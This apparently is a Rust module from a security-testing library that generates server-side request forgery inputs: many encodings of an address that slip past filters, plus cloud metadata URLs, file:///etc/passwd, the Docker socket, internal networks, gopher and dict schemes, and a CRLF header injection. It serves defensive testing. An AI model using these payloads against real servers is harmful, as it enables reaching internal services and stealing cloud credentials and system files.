//! Addresses of services that only the server reaches.

use core::net::Ipv4Addr;

use super::{Input, Inputs};

/// Addresses of this machine at port 80, and of what a server reaches besides: [`server_side_request_forgery_to`].
#[must_use]
pub fn server_side_request_forgery() -> Inputs {
    server_side_request_forgery_to(Ipv4Addr::LOCALHOST, 80)
}

/// Addresses of this service, in all spellings of its number, and of what a server reaches besides (CWE-918).
///
/// Decimal, octal and hexadecimal numbers, whole and in parts, short forms, IPv6 that maps the number, users and
/// fragments that look like a host, full-width digits; names of this machine; the metadata services of clouds; private
/// and reserved networks; and other schemes: files, gopher, dict. Name a listener of the test, and ask whether somebody
/// has come.
#[must_use]
pub fn server_side_request_forgery_to(address: Ipv4Addr, port: u16) -> Inputs {
    let [a, b, c, d] = address.octets();
    let number = u32::from(address);
    let host = |host: String| format!("http://{host}:{port}/");
    let full_width: String = address
        .to_string()
        .chars()
        .map(|char| char.to_digit(10).and_then(|digit| char::from_u32(0xff10 + digit)).unwrap_or('\u{3002}'))
        .collect();
    let mut inputs = Inputs::texts([
        ("plain", host(address.to_string())),
        ("decimal", host(number.to_string())),
        ("hexadecimal", host(format!("{number:#x}"))),
        ("octal", host(format!("0{number:o}"))),
        ("hexadecimal in parts", host(format!("{a:#x}.{b:#x}.{c:#x}.{d:#x}"))),
        ("octal in parts", host(format!("0{a:o}.0{b:o}.0{c:o}.0{d:o}"))),
        ("octal with many zeros", host(format!("0000{a:o}.0000{b:o}.0000{c:o}.0000{d:o}"))),
        ("two parts", host(format!("{a}.{}", number & 0x00ff_ffff))),
        ("three parts", host(format!("{a}.{b}.{}", number & 0xffff))),
        ("final dot", host(format!("{address}."))),
        ("full width", host(full_width)),
        ("percent-encoded", host(percent_encoded(&address.to_string()))),
        ("mapped into IPv6", host(format!("[::ffff:{address}]"))),
        ("mapped into IPv6, hexadecimal", host(format!("[::ffff:{:x}:{:x}]", number >> 16, number & 0xffff))),
        ("compatible IPv6", host(format!("[::{address}]"))),
        ("translated by NAT64", host(format!("[64:ff9b::{address}]"))),
        ("tunnelled by 6to4", host(format!("[2002:{:x}:{:x}::]", number >> 16, number & 0xffff))),
        ("behind a user", host(format!("allowed.example@{address}"))),
        ("behind a user with a fragment", format!("http://allowed.example#@{address}:{port}/")),
        ("before a fragment", format!("http://{address}:{port}#allowed.example/")),
        ("before a backslash", format!("http://{address}:{port}\\@allowed.example/")),
        ("no scheme", format!("//{address}:{port}/")),
        ("TLS", format!("https://{address}:{port}/")),
        ("other scheme: gopher", format!("gopher://{address}:{port}/_x")),
        ("other scheme: dict", format!("dict://{address}:{port}/x")),
        ("other scheme: FTP", format!("ftp://{address}:{port}/x")),
        ("line end in the path", format!("http://{address}:{port}/x\r\nX-Injected: 1")),
        ("space first", format!(" http://{address}:{port}/")),
    ]);
    inputs.extend(Inputs::texts([
        ("file", "file:///etc/passwd"),
        ("file of a host", "file://localhost/etc/passwd"),
        ("this machine by name", "http://localhost/"),
        ("this machine by name, final dot", "http://localhost./"),
        ("this machine by a subdomain", "http://x.localhost/"),
        ("this machine, IPv6", "http://[::1]/"),
        ("this machine, IPv6 in full", "http://[0:0:0:0:0:0:0:1]/"),
        ("this machine, another number", "http://127.1.2.3/"),
        ("every address", "http://0.0.0.0/"),
        ("every address, short", "http://0/"),
        ("every address, IPv6", "http://[::]/"),
        ("metadata of a cloud", "http://169.254.169.254/latest/meta-data/"),
        ("metadata of a cloud, decimal", "http://2852039166/latest/meta-data/"),
        ("metadata of a cloud, IPv6", "http://[fd00:ec2::254]/latest/meta-data/"),
        ("metadata of a cloud, mapped into IPv6", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
        ("metadata of a cloud, by name", "http://metadata.google.internal/computeMetadata/v1/"),
        ("private network 10", "http://10.0.0.1/"),
        ("private network 172.16", "http://172.16.0.1/"),
        ("private network 192.168", "http://192.168.0.1/"),
        ("shared network", "http://100.64.0.1/"),
        ("local link", "http://169.254.0.1/"),
        ("local link, IPv6", "http://[fe80::1%25eth0]/"),
        ("own network, IPv6", "http://[fc00::1]/"),
        ("multicast", "http://224.0.0.1/"),
        ("broadcast", "http://255.255.255.255/"),
        ("socket of a daemon", "unix:///var/run/docker.sock"),
        ("name of a service in a cluster", "http://kubernetes.default.svc/"),
        ("database", "http://127.0.0.1:5432/"),
    ]));
    inputs.distinct()
}

/// Each byte as `%` and two digits.
fn percent_encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

/// The number of a host as [`Input`] in another spelling, for a system that takes hosts and no addresses.
#[must_use]
pub fn host_spellings(address: Ipv4Addr) -> Inputs {
    const PORT: u16 = 80;
    let host = |input: Input| {
        let host = input.strip_prefix("http://")?.strip_suffix(&format!(":{PORT}/"))?.to_owned();
        (!host.contains(['@', '/', '#'])).then(|| Input::new(input.label().to_owned(), host))
    };
    let spellings =
        server_side_request_forgery_to(address, PORT).into_iter().take_while(|input| input.label() != "TLS");
    spellings.filter_map(host).collect::<Inputs>().distinct()
}

#[cfg(test)]
mod tests {
    use core::net::{IpAddr, Ipv6Addr};

    use super::{super::tests::percent_decoded, *};

    #[test]
    fn spellings_are_of_the_same_number() {
        let address = Ipv4Addr::new(192, 0, 2, 33);
        let hosts = host_spellings(address);
        let of = |label: &str| hosts.iter().find(|host| host.label() == label).unwrap().to_string();
        assert_eq!(of("decimal").parse(), Ok(u32::from(address)));
        assert_eq!(u32::from_str_radix(of("hexadecimal").trim_start_matches("0x"), 16), Ok(u32::from(address)));
        assert_eq!(u32::from_str_radix(&of("octal"), 8), Ok(u32::from(address)));
        let parts = |label: &str, radix: u32| -> Vec<u8> {
            let part = |part: &str| u8::from_str_radix(part.trim_start_matches("0x"), radix).unwrap();
            of(label).split('.').map(part).collect()
        };
        assert_eq!(parts("hexadecimal in parts", 16), address.octets());
        assert_eq!(parts("octal in parts", 8), address.octets());
        assert_eq!(parts("octal with many zeros", 8), address.octets());
        assert_eq!((of("two parts"), of("three parts")), ("192.545".to_owned(), "192.0.545".to_owned()));
        assert_eq!(percent_decoded(&of("percent-encoded")), address.to_string().as_bytes());
        for label in ["mapped into IPv6", "mapped into IPv6, hexadecimal"] {
            let mapped: Ipv6Addr = of(label).trim_matches(['[', ']']).parse().unwrap();
            assert_eq!(mapped.to_ipv4_mapped(), Some(address), "{label}");
        }
        for label in ["compatible IPv6", "translated by NAT64", "tunnelled by 6to4"] {
            of(label).trim_matches(['[', ']']).parse::<Ipv6Addr>().unwrap();
        }
        assert_eq!(of("plain").parse(), Ok(IpAddr::from(address)));
    }
}
